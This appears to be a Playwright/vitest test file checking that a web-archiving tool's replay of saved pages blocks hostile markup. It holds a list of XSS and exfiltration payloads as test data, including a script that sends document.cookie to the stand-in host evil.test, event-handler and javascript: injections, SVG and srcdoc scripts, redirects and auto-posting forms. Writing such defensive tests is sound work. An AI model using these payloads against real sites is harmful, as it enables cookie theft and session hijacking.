import { join } from 'node:path'
import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { listen } from '../../src/service/listen.ts'
import { openStore } from '../../src/store/store.ts'
import { openDesk } from '../cli/stet.ts'
import { page } from '../web/page.ts'
import { html, reply } from '../web/reply.ts'
import { openWeb } from '../web/web.ts'
import { openBrowser } from './browser.ts'
import { openPages } from './pages.ts'
import { type Served, servePages } from './serve.ts'

const steal =
  "new Image().src='http://evil.test/?'+document.cookie;parent.document.title='stolen';localStorage.x=1;document.title='ran'"
const words = '<p>The harbour was closed that day, and the ships waited before the boom.</p>'.repeat(30)

/** Pages that want more than to be read. */
const attacks: Readonly<Record<string, string>> = {
  'a script that reads what pages of ours keep': `<script>${steal}</script>`,
  'a script from elsewhere': '<script src="http://evil.test/a.js"></script>',
  'a module script': `<script type="module">${steal}</script>`,
  'a handler of an image': `<img src="x" onerror="${steal}">`,
  'a handler of the body': `<body onload="${steal}">`,
  'a link that is a script': `<a id="go" href="javascript:${steal}">go</a>`,
  'a form that posts to our API':
    '<form id="f" method="post" action="/articles"><button id="go">go</button></form>',
  'a form that posts by itself':
    '<form method="post" action="http://evil.test/"><input autofocus onfocus="this.form.submit()"></form>',
  'a refresh that leads away': '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
  'a link that takes the whole window': '<a id="go" target="_top" href="http://evil.test/">go</a>',
  'a link into a new window': '<a id="go" target="_blank" href="http://evil.test/">go</a>',
  'a script that navigates the window around it': "<script>top.location='http://evil.test/'</script>",
  'a service worker': "<script>navigator.serviceWorker.register('/sw.js')</script>",
  'a script in SVG': `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`,
  'a frame of the live web': '<iframe src="http://evil.test/"></iframe>',
  'a frame that brings its own document': `<iframe srcdoc="<script>${steal}</script>"></iframe>`,
  'a plug-in': '<object data="http://evil.test/a.swf"></object><embed src="http://evil.test/a.swf">',
  'a picture of the live web': '<img src="http://evil.test/a.png" srcset="http://evil.test/b.png 2x">',
  'a style of the live web':
    '<link rel="stylesheet" href="http://evil.test/a.css"><style>@import url(http://evil.test/b.css);body{background:url(http://evil.test/c.png)}</style>',
  'a font of the live web':
    '<style>@font-face{font-family:x;src:url(http://evil.test/f.woff2)}p{font-family:x}</style>',
  'a connection made beforehand':
    '<link rel="preconnect" href="http://evil.test"><link rel="dns-prefetch" href="//evil.test"><link rel="prefetch" href="http://evil.test/p">',
  'a base that turns addresses around':
    '<base href="http://evil.test/"><img src="a.png"><a id="go" href="b">go</a>',
  'a film that plays by itself':
    '<video autoplay src="http://evil.test/a.mp4"></video><audio autoplay src="http://evil.test/a.mp3"></audio>',
  'a cookie that is tossed by markup': '<meta http-equiv="Set-Cookie" content="session=evil; path=/">',
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${steal}</script>`,
  'an element that is never closed before a script': `<title>a<textarea><script>${steal}</script>`,
}

let served: Served
let browser: Browser & AsyncDisposable
let context: BrowserContext
/** what the live web was asked for */
const reached: string[] = []
let closing: AsyncDisposableStack
const captures = new Map<string, string>()

beforeAll(async () => {
  closing = new AsyncDisposableStack()
  const web = closing.use(await openWeb())
  web.site('probe.test', { '/': page({ title: 'here' }) })
  const names = Object.keys(attacks)
  const paths = names.map((name, index) => [
    `/${index}`,
    html(
      `<!doctype html><html><head><title>${index}</title></head><body>${words}${attacks[name]}${words}</body></html>`,
      {
        headers: {
          'Set-Cookie': 'session=evil; Path=/',
          Refresh: '0;url=http://evil.test/',
          Link: '<http://evil.test/>; rel=preload; as=script',
          'Service-Worker-Allowed': '/',
          'Content-Security-Policy': 'script-src *',
        },
      },
    ),
  ])
  web.site('hostile.test', {
    ...Object.fromEntries(paths),
    '/sniffed': reply(`<script>${steal}</script>${words}`, { type: 'text/plain' }),
    '/picture': reply(`<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>`, {
      type: 'image/svg+xml',
    }),
  })
  const desk = closing.use(await openDesk(web))
  const links = [...names.map((_, index) => `${index}`), 'sniffed', 'picture']
  await desk.write(
    'all.md',
    links.map((path) => `They [said so](https://hostile.test/${path}).`).join('\n\n'),
  )
  await desk.run(['check', 'all.md', '--quiet', ...desk.flags])
  const data = join(desk.folder, '.stet')
  const store = closing.use(await openStore({ dataFolder: data }))
  const archiveFolder = join(data, 'archive')
  const pages = closing.use(openPages(store, { archiveFolder }))
  const list = await pages.look('/sources')
  for (const row of list('tbody tr').get()) {
    const url = list(row).find('a.address').attr('href')!
    const source = await pages.look(list(row).find('a[href^="/sources/"]').attr('href')!)
    captures.set(new URL(url).pathname.slice(1), source('a[href^="/captures/"]').first().attr('href')!)
  }
  served = closing.use(await servePages(store, { archiveFolder }))
  const live = closing.use(
    await listen(
      (request) => {
        reached.push(request.url)
        return new Response('live')
      },
      { host: '127.0.0.1', port: 0, setting: 'none' },
    ),
  )
  browser = closing.use(await openBrowser([`--host-resolver-rules=MAP evil.test:80 127.0.0.1:${live.port}`]))
  context = await browser.newContext()
  await context.addCookies([{ name: 'session', value: 'ours', url: served.publicUrl }])
}, 120_000)
afterAll(async () => await closing.disposeAsync())

const hostile = [
  ...Object.keys(attacks).map((name, index) => [name, `${index}`] as const),
  ['markup that is sent as plain text', 'sniffed'] as const,
  ['a picture that is markup', 'picture'] as const,
]

test('the live web would answer, were it asked', async () => {
  await using window = await context.newPage()
  await window.goto('http://evil.test/')
  expect(reached).toContain('http://evil.test/')
})

test.each(hostile)('%s gets nowhere', async (_, path) => {
  await using window = await context.newPage()
  reached.length = 0
  const opened: string[] = []
  context.on('page', (other) => opened.push(other.url()))
  const sent: (string | undefined)[] = []
  window.on('response', async (response) => {
    if (response.url().startsWith(served.replayUrl))
      sent.push((await response.headerValue('set-cookie')) ?? undefined)
  })
  await window.goto(`${served.publicUrl}${captures.get(path)}`, { waitUntil: 'load' })
  const frame = window.frames().find((one) => one.url().startsWith(served.replayUrl))!
  // the copy is there to be read
  expect(await frame.locator('body').textContent()).not.toBe('')
  const button = frame.locator('#go')
  if ((await button.count()) > 0) await button.click({ timeout: 2_000, noWaitAfter: true }).catch(() => {})
  await window.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))')
  expect(reached).toEqual([])
  expect(await window.title()).not.toMatch(/stolen|ran/)
  expect(window.url().startsWith(served.publicUrl)).toBe(true)
  expect(opened).toEqual([])
  expect(sent.filter((one) => one !== undefined)).toEqual([])
  expect(await context.cookies()).toMatchObject([{ name: 'session', value: 'ours' }])
  expect(context.serviceWorkers()).toEqual([])
})

test('a page that acts is stopped by the browser alone, were its markup handed on as it came', async () => {
  await using window = await context.newPage()
  reached.length = 0
  await window.route(`${served.replayUrl}/**`, async (route) => {
    const response = await route.fetch()
    const body = `<html><body>${words}${Object.values(attacks).join('')}</body></html>`
    await route.fulfill({ response, body, headers: { ...response.headers(), 'content-type': 'text/html' } })
  })
  await window.goto(`${served.publicUrl}${captures.get('0')}`, { waitUntil: 'load' })
  expect(reached).toEqual([])
  expect(await window.title()).not.toMatch(/stolen|ran/)
})
